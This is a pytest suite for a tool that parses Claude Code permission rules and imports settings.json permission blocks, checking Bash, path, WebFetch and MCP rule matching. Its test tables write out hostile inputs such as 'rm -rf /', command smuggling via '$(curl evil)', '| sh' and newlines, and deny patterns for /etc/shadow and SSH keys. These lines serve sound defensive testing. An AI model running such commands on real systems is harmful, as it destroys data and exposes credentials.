"""The Claude Code permission-rule text form, and the import of a settings.json permissions block."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest

from crossgate.errors import ConfigurationError
from crossgate.model import VerdictKind
from crossgate.policy import Policy, import_claude_settings, parse_claude_rule
from crossgate.policy.claude import path_pattern

from .helpers import NOW, call

ROOT = "/work/proj"
HOME = "/home/ana"


def covers(text: str, verdict: str, tool: str, **args: Any) -> bool:
    rules = parse_claude_rule(text, verdict, root=ROOT, home=HOME)
    return any(rule.matches(call(tool, framework="claude-agent-sdk", args=args)) for rule in rules)


BASH = [
    # whole tool
    ("Bash", "allow", "anything at all; rm -rf /", True),
    ("Bash(*)", "allow", "anything at all", True),
    # exact
    ("Bash(npm run build)", "allow", "npm run build", True),
    ("Bash(npm run build)", "allow", "npm run build --prod", False),
    ("Bash(npm run build)", "allow", "npm run buil", False),
    # a space before a trailing * is a word boundary, and the tail is optional
    ("Bash(ls *)", "allow", "ls", True),
    ("Bash(ls *)", "allow", "ls -la /tmp", True),
    ("Bash(ls *)", "allow", "lsof", False),
    ("Bash(ls*)", "allow", "lsof", True),
    ("Bash(npm run *)", "allow", "npm runtime", False),
    # the legacy :* suffix is the same as " *"
    ("Bash(npm run:*)", "allow", "npm run test", True),
    ("Bash(npm run:*)", "allow", "npm run", True),
    ("Bash(npm:*)", "allow", "npmx install", False),
    # * anywhere
    ("Bash(git * main)", "allow", "git checkout main", True),
    ("Bash(git * main)", "allow", "git checkout dev", False),
    ("Bash(* --version)", "allow", "node --version", True),
    ("Bash(* --version)", "allow", "node --versions", False),
    ("Bash(git * main)", "allow", "git checkout   main", True),
    ("Bash(a * b * c)", "allow", "a x b b y c", True),
    ("Bash(a * b * c)", "allow", "a x b y", False),
    ("Bash(git * main)", "deny", "echo hi; git checkout main && ls", True),
    ("Bash(git * main)", "deny", "git checkout dev; echo main", True),  # wildcards in deny rules cross operators
    ("Bash(a * b * c)", "deny", "a a b x c", True),
    ("Bash(* --version)", "deny", "node --version | head", True),
    # an allow wildcard never crosses a shell operator, substitution or redirection
    ("Bash(npm test *)", "allow", "npm test && rm -rf /", False),
    ("Bash(npm test *)", "allow", "npm test; rm -rf /", False),
    ("Bash(npm test *)", "allow", "npm test | sh", False),
    ("Bash(npm test *)", "allow", "npm test $(curl evil)", False),
    ("Bash(npm test *)", "allow", "npm test `id`", False),
    ("Bash(npm test *)", "allow", "npm test > /etc/passwd", False),
    ("Bash(npm test *)", "allow", "npm test\nrm -rf /", False),
    ("Bash(npm test *)", "allow", "npm test --watch=false", True),
    ("Bash(git status)", "allow", "  git status  ", True),
    # deny and ask find the pattern at any command word: compound commands, wrappers, quotes, paths
    ("Bash(rm -rf *)", "deny", "rm -rf /", True),
    ("Bash(rm -rf *)", "deny", "rm -rf", True),
    ("Bash(rm -rf *)", "deny", "cd /tmp && rm -rf x", True),
    ("Bash(rm -rf *)", "deny", "sudo rm -rf x", True),
    ("Bash(rm -rf *)", "deny", "timeout 5 rm -rf x", True),
    ("Bash(rm -rf *)", "deny", "bash -c 'rm -rf x'", True),
    ("Bash(rm -rf *)", "deny", "/bin/rm -rf x", True),
    ("Bash(rm -rf *)", "deny", "echo ok\nrm  -rf x", True),
    ("Bash(rm -rf *)", "deny", "rm -r x", False),
    ("Bash(rm -rf *)", "deny", "farm -rf", False),
    ("Bash(rm *)", "ask", "rmdir x", False),
    ("Bash(git push)", "deny", "git push", True),
    ("Bash(git push)", "deny", "git status; git push", True),
    ("Bash(git push)", "deny", "git push origin main", False),
    ("Bash(git push *)", "ask", "git push origin main", True),
    ("Bash(git push:*)", "ask", "git pushx", False),
]


@pytest.mark.parametrize(("text", "verdict", "command", "expected"), BASH)
def test_bash_patterns(text: str, verdict: str, command: str, expected: bool) -> None:
    assert covers(text, verdict, "Bash", command=command) is expected


def test_a_bash_rule_covers_only_bash() -> None:
    assert not covers("Bash(rm *)", "deny", "Shell", command="rm x")
    assert not covers("Bash(rm *)", "deny", "Bash", cmd="rm x")  # no command argument: nothing to match


PATHS = [
    # //abs is absolute; ~/ is below home
    ("Read(//etc/**)", "deny", "Read", "/etc/shadow", True),
    ("Read(//etc/**)", "deny", "Read", "/tmp/../etc/shadow", True),
    ("Read(//etc/**)", "allow", "Read", "/etc/ssh/sshd_config", True),
    ("Read(~/.ssh/**)", "deny", "Read", f"{HOME}/.ssh/id_ed25519", True),
    ("Read(~/.ssh/**)", "deny", "Read", "/root/.ssh/id_ed25519", False),
    # relative patterns in deny and ask rules match at any depth
    ("Read(./secrets/**)", "deny", "Read", f"{ROOT}/secrets/prod.key", True),
    ("Read(./secrets/**)", "deny", "Read", "secrets/prod.key", True),
    ("Read(./secrets/**)", "deny", "Read", "/elsewhere/secrets/a/b", True),
    ("Read(./secrets/**)", "deny", "Read", f"{ROOT}/src/main.py", False),
    ("Read(./.env)", "deny", "Read", f"{ROOT}/src/../.env", True),
    ("Read(*.env)", "ask", "Read", f"{ROOT}/prod.env", True),
    ("Read(/secrets/)", "deny", "Read", f"{ROOT}/secrets/x", True),
    # relative patterns in allow rules match only below the root (or as relative paths without one)
    ("Edit(/src/**)", "allow", "Edit", f"{ROOT}/src/app/main.py", True),
    ("Edit(/src/**)", "allow", "Edit", "/other/src/main.py", False),
    ("Edit(/src/**)", "allow", "Edit", f"{ROOT}/src/../../etc/passwd", False),
    ("Edit(./src/*.py)", "allow", "Edit", f"{ROOT}/src/a/main.py", False),  # * stays in one directory
    ("Edit(./src/**/*.py)", "allow", "Edit", f"{ROOT}/src/a/main.py", True),
    # Edit covers every file-editing tool; Read and Write only themselves
    ("Edit(/src/**)", "allow", "Write", f"{ROOT}/src/new.py", True),
    ("Edit(/src/**)", "allow", "MultiEdit", f"{ROOT}/src/new.py", True),
    ("Edit(/src/**)", "allow", "Read", f"{ROOT}/src/new.py", False),
    ("Write(/out/**)", "allow", "Write", f"{ROOT}/out/a.txt", True),
    ("Write(/out/**)", "allow", "Edit", f"{ROOT}/out/a.txt", False),
    ("Read(/src/**)", "allow", "Edit", f"{ROOT}/src/a.py", False),
]


@pytest.mark.parametrize(("text", "verdict", "tool", "path", "expected"), PATHS)
def test_path_patterns(text: str, verdict: str, tool: str, path: str, expected: bool) -> None:
    assert covers(text, verdict, tool, file_path=path) is expected


def test_edit_covers_notebooks_by_their_path_argument() -> None:
    assert covers("Edit(/nb/**)", "deny", "NotebookEdit", notebook_path="nb/a.ipynb")
    assert covers("Edit", "deny", "NotebookEdit", notebook_path="/anywhere.ipynb")


@pytest.mark.parametrize(
    ("spec", "verdict", "root", "expected"),
    [
        ("//abs/x", "allow", None, "/abs/x"),
        ("~/x/**", "allow", None, f"{HOME}/x/**"),
        ("/src/**", "allow", "/r", "/r/src/**"),
        ("./src/**", "allow", "/r", "/r/src/**"),
        ("src/", "allow", "/r", "/r/src/**"),
        ("./src/**", "allow", None, "src/**"),
        ("./src/**", "deny", "/r", "**/src/**"),
        ("**/x", "ask", None, "**/x"),
        ("../shared/**", "allow", "/r/app", "/r/shared/**"),
    ],
)
def test_path_normalisation(spec: str, verdict: str, root: str | None, expected: str) -> None:
    assert path_pattern(spec, verdict, root=root, home=HOME) == expected


def test_allow_without_a_root_matches_only_relative_paths() -> None:
    rules = parse_claude_rule("Edit(./reports/**)", "allow")
    assert rules[0].matches(call("Edit", args={"file_path": "reports/q3.md"}))
    assert not rules[0].matches(call("Edit", args={"file_path": "/srv/reports/q3.md"}))


WEB = [
    ("https://example.com/a", True),
    ("https://EXAMPLE.com", True),
    ("http://example.com:8080/x?y", True),
    ("https://user@example.com/", True),
    ("https://example.com./", True),
    ("https://docs.example.com/", False),
    ("https://example.com.evil.net/", False),
    ("https://example.com@evil.net/", False),
    ("https://evil.net/?u=https://example.com/", False),
    ("https://notexample.com/", False),
]


@pytest.mark.parametrize(("url", "expected"), WEB)
def test_webfetch_domain_is_the_host(url: str, expected: bool) -> None:
    assert covers("WebFetch(domain:example.com)", "allow", "WebFetch", url=url) is expected


def test_webfetch_subdomain_wildcard() -> None:
    assert covers("WebFetch(domain:*.example.com)", "deny", "WebFetch", url="https://a.b.example.com/x")
    assert not covers("WebFetch(domain:*.example.com)", "deny", "WebFetch", url="https://example.com/x")


MCP = [
    # (rule text, verdict, tool, server, covered): tools are named by their own name, the server is context
    ("mcp__tickets__delete_ticket", "allow", "delete_ticket", "tickets", True),
    ("mcp__tickets__delete_ticket", "allow", "list_tickets", "tickets", False),
    ("mcp__tickets__delete_ticket", "deny", "delete_ticket", "other", False),
    ("mcp__tickets__delete_ticket", "deny", "delete_ticket", None, False),  # no server: not an MCP call
    ("mcp__tickets", "allow", "delete_ticket", "tickets", True),
    ("mcp__tickets", "allow", "delete_ticket", "tickets_admin", False),
    ("mcp__tickets", "allow", "delete_ticket", "tickets__admin", False),  # allow: that server only
    ("mcp__tickets", "deny", "delete_ticket", "tickets__admin", True),  # mcp__tickets__admin__...: Claude's reading
    ("mcp__tickets__*", "allow", "list_tickets", "tickets", True),
    ("mcp__tickets__*", "allow", "list_tickets", "other", False),
    ("mcp__tickets__get_*", "allow", "get_ticket", "tickets", True),
    ("mcp__tickets__get_*", "allow", "list_tickets", "tickets", False),
    # a server name with __ in it: every split of the CLI name is a server and tool with that CLI name
    ("mcp__team__ops__delete_ticket", "deny", "delete_ticket", "team__ops", True),
    ("mcp__team__ops__delete_ticket", "deny", "ops__delete_ticket", "team", True),
    ("mcp__team__ops__delete_ticket", "allow", "delete_ticket", "team", False),
    ("mcp__team__ops__*", "deny", "anything", "team__ops", True),
    # the CLI writes characters of a server name outside [A-Za-z0-9_-] as _
    ("mcp__team_ops__delete_ticket", "deny", "delete_ticket", "team.ops", True),
    ("mcp__team_ops__delete_ticket", "allow", "delete_ticket", "team ops", True),
    ("mcp__team_ops__delete_ticket", "allow", "delete_ticket", "teamXops", False),
    ("mcp__team-ops", "allow", "x", "team_ops", False),
]


def covers_mcp(text: str, verdict: str, tool: str, server: str | None) -> bool:
    context = {} if server is None else {"mcp_server": server}
    rules = parse_claude_rule(text, verdict)
    return any(rule.matches(call(tool, framework="claude-agent-sdk", context=context)) for rule in rules)


@pytest.mark.parametrize(("text", "verdict", "tool", "server", "expected"), MCP)
def test_mcp_rules_match_the_tool_name_and_the_server_in_the_context(
    text: str, verdict: str, tool: str, server: str | None, expected: bool
) -> None:
    assert covers_mcp(text, verdict, tool, server) is expected


def test_mcp_rules_are_named_by_their_text_and_reading() -> None:
    [one] = parse_claude_rule("mcp__github__delete_repo", "deny")
    assert (one.name, one.tool, [c.arg for c in one.context]) == (
        "claude:deny:mcp__github__delete_repo",
        "delete_repo",
        ["mcp_server"],
    )
    assert [r.name for r in parse_claude_rule("mcp__github", "deny")] == [
        "claude:deny:mcp__github [server github]",
        "claude:deny:mcp__github [server github__*]",
    ]
    assert [r.tool for r in parse_claude_rule("mcp__a__b__c", "ask")] == ["b__c", "c"]


def test_mcp_server_wildcard_works_in_deny_but_is_refused_in_allow() -> None:
    assert covers_mcp("mcp__*", "deny", "tool", "any")
    assert not covers_mcp("mcp__*", "deny", "Bash", None)
    with pytest.raises(ConfigurationError, match="wildcard in the server name"):
        parse_claude_rule("mcp__*", "allow")


PARAMS = [
    ("Agent(model:opus)", "Agent", {"model": "opus"}, True),
    ("Agent(model:opus)", "Agent", {"model": "claude-opus-4-7"}, False),
    ("Agent(model:*)", "Agent", {}, False),  # an omitted argument never matches
    ("Agent(isolation:*)", "Agent", {"isolation": "worktree"}, True),
    ("Agent(Explore)", "Agent", {"subagent_type": "Explore"}, True),
    ("Task(Explore)", "Task", {"subagent_type": "Plan"}, False),
    ("Bash(run_in_background:true)", "Bash", {"command": "sleep 9", "run_in_background": True}, True),
    ("Bash(run_in_background:true)", "Bash", {"command": "sleep 9"}, False),
    ("WebFetch(prompt:a?c)", "WebFetch", {"prompt": "abc"}, False),  # only * is a wildcard in Claude values
    ("WebFetch(prompt:a?c)", "WebFetch", {"prompt": "a?c"}, True),
    ("Read(limit:10)", "Read", {"file_path": "x", "limit": 10}, True),
]


@pytest.mark.parametrize(("text", "tool", "args", "expected"), PARAMS)
def test_param_value_rules(text: str, tool: str, args: dict[str, Any], expected: bool) -> None:
    assert covers(text, "deny", tool, **args) is expected


def test_param_value_rules_of_mcp_tools() -> None:
    [rule] = parse_claude_rule("mcp__tickets__delete_ticket(ticket_id:T-*)", "deny")
    tickets = {"mcp_server": "tickets"}
    assert rule.matches(call("delete_ticket", args={"ticket_id": "T-1"}, context=tickets))
    assert not rule.matches(call("delete_ticket", args={"ticket_id": "X-1"}, context=tickets))


def test_bare_tool_names_and_names_of_rules() -> None:
    (rule,) = parse_claude_rule("WebSearch", "ask")
    assert (rule.name, rule.tool, rule.where, rule.verdict) == ("claude:ask:WebSearch", "WebSearch", (), "ask")
    edits = parse_claude_rule("Edit(/src/**)", "allow", root=ROOT)
    assert [r.name for r in edits] == [
        "claude:allow:Edit(/src/**) [Edit]",
        "claude:allow:Edit(/src/**) [MultiEdit]",
        "claude:allow:Edit(/src/**) [Write]",
        "claude:allow:Edit(/src/**) [NotebookEdit]",
    ]
    (deny,) = parse_claude_rule("Bash(rm *)", "deny", frameworks=("claude-agent-sdk",))
    assert "Bash(rm *)" in deny.reason and deny.frameworks == ("claude-agent-sdk",)


MALFORMED = [
    ("", "empty rule text"),
    ("   ", "empty rule text"),
    ("Bash(rm *", "expected Tool or Tool(specifier)"),
    ("Bash rm", "expected Tool or Tool(specifier)"),
    ("Bash()", "empty specifier"),
    ("Bash(  )", "empty specifier"),
    ("Bash(npm:* --x)", "only valid at the end"),
    ("Bash(* *)", "only wildcards"),
    ("Bash(command:rm *)", "primary argument"),
    ("Read(file_path:/etc/**)", "primary argument"),
    ("9lives", "not a tool name"),
    ("Grep(secret)", "only as param:value"),
    ("Glob(**/*.py)", "only as param:value"),
    ("WebFetch(example.com)", "domain:<host>"),
    ("WebFetch(domain:)", "not a host name"),
    ("WebFetch(domain:exa mple.com)", "not a host name"),
    ("WebFetch(domain:https://example.com)", "not a host name"),
    ("Read(~bob/x)", "~user paths"),
    ("Read(./)", "names no file"),
    ("mcp__", "mcp__<server>"),
    ("mcp__tickets__", "mcp__<server>"),
    ("mcp__tickets__delete(T-1)", "only as param:value"),
]


@pytest.mark.parametrize(("text", "message"), MALFORMED)
def test_malformed_rules_raise_a_precise_error(text: str, message: str) -> None:
    with pytest.raises(ConfigurationError, match=message.replace("(", r"\(").replace(")", r"\)").replace("*", r"\*")):
        parse_claude_rule(text, "deny")


def test_deny_path_that_climbs_out_and_unknown_verdict_are_refused() -> None:
    with pytest.raises(ConfigurationError, match="climb out"):
        parse_claude_rule("Read(../x)", "deny")
    with pytest.raises(ConfigurationError, match="no root or cwd"):
        parse_claude_rule("Read(../x)", "allow")
    with pytest.raises(ConfigurationError, match="unknown verdict"):
        parse_claude_rule("Bash", "maybe")


SETTINGS: dict[str, Any] = {
    "permissions": {
        "allow": ["Bash(aws s3 ls)", "Bash(npm run *)", "Read", "Bash(npm run *)"],
        "deny": ["Bash(aws *)", "Read(./.env)"],
        "ask": ["Bash(npm run deploy *)"],
        "defaultMode": "acceptEdits",
        "additionalDirectories": ["../docs"],
    },
    "model": "opus",
}


def test_settings_import_orders_deny_ask_allow_and_reads_repeats_once() -> None:
    rules = import_claude_settings(SETTINGS)
    assert [(r.verdict.value, r.name.split(":", 2)[2]) for r in rules] == [
        ("deny", "Bash(aws *)"),
        ("deny", "Read(./.env)"),
        ("ask", "Bash(npm run deploy *)"),
        ("allow", "Bash(aws s3 ls)"),
        ("allow", "Bash(npm run *)"),
        ("allow", "Read"),
    ]


@pytest.mark.parametrize(
    ("tool", "args", "kind"),
    [
        ("Bash", {"command": "aws s3 ls"}, "deny"),  # a narrower allow cannot carve out of a deny
        ("Bash", {"command": "npm run deploy prod"}, "ask"),
        ("Bash", {"command": "npm run test"}, "allow"),
        ("Read", {"file_path": "/p/.env"}, "deny"),
        ("Read", {"file_path": "/p/README.md"}, "allow"),
        ("Edit", {"file_path": "/p/README.md"}, "ask"),  # defaultMode is not imported: crossgate's default
    ],
)
def test_imported_settings_evaluate_like_claude_code(tool: str, args: dict[str, Any], kind: str) -> None:
    rules = import_claude_settings(SETTINGS)
    # reordering the imported rules changes nothing: the verdict kind ranks them
    for ordered in (rules, list(reversed(rules))):
        verdict = Policy(rules=tuple(ordered)).evaluate(call(tool, args=args), now=NOW)
        assert verdict.kind == kind


def test_settings_file_sets_the_root_to_the_project(tmp_path: Path) -> None:
    settings = tmp_path / "proj" / ".claude" / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text(json.dumps({"permissions": {"allow": ["Edit(/src/**)"]}}), encoding="utf-8")
    rules = import_claude_settings(settings)
    inside = (tmp_path / "proj" / "src" / "a.py").as_posix()
    assert rules[0].matches(call("Edit", args={"file_path": inside}))
    assert not rules[0].matches(call("Edit", args={"file_path": "/elsewhere/src/a.py"}))
    local = tmp_path / "flat.json"
    local.write_text(json.dumps({"allow": ["Edit(/src/**)"]}), encoding="utf-8")
    (flat,) = import_claude_settings(local)[:1]
    assert flat.where[0].pattern == f"{tmp_path.as_posix()}/src/**"


def test_the_permissions_block_alone_is_accepted() -> None:
    rules = import_claude_settings({"deny": ["Bash"], "ask": []})
    assert [r.verdict for r in rules] == [VerdictKind.DENY]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"permissions": {"allow": "Bash"}}, "permissions.allow must be a list"),
        ({"permissions": {"deny": ["Bash", 3]}}, "permissions.deny must be a list"),
        ({"permissions": {"alow": ["Bash"]}}, "unknown key"),
        ({"permissions": ["Bash"]}, "permissions must be an object"),
        ({"model": "opus"}, "no permissions block"),
        ({"permissions": {"deny": ["Bash(rm *"]}}, r"permissions\.deny: Claude permission rule 'Bash\(rm \*'"),
        (["Bash"], "expected a JSON object"),
    ],
)
def test_malformed_settings_raise(data: Any, message: str) -> None:
    with pytest.raises(ConfigurationError, match=message):
        import_claude_settings(data)


def test_unreadable_and_invalid_settings_files_name_the_file(tmp_path: Path) -> None:
    missing = tmp_path / "nope.json"
    with pytest.raises(ConfigurationError, match=r"nope\.json: cannot read"):
        import_claude_settings(missing)
    broken = tmp_path / "broken.json"
    broken.write_text("{'permissions': }", encoding="utf-8")
    with pytest.raises(ConfigurationError, match=r"broken\.json: not valid JSON"):
        import_claude_settings(broken)


@pytest.mark.parametrize("verdict", ["allow", "deny"])
@pytest.mark.parametrize(
    "text", ["Bash(git * main)", "Bash(a * b * c)", "Bash(* --version)", "Bash(ls *)", "Bash(rm -rf *)"]
)
def test_bash_matching_stays_fast_on_hostile_commands(verdict: str, text: str) -> None:
    # overlapping quantifiers would make these take minutes; the built expressions stay linear
    rules = parse_claude_rule(text, verdict)
    hostile = ["git " + " " * 20_000 + "x", "a " + "b " * 10_000 + "x;", " " * 20_000 + ";", "git " * 5_000 + ";"]
    started = time.perf_counter()
    for command in hostile:
        rules[0].matches(call("Bash", args={"command": command}))
    assert time.perf_counter() - started < 1.0
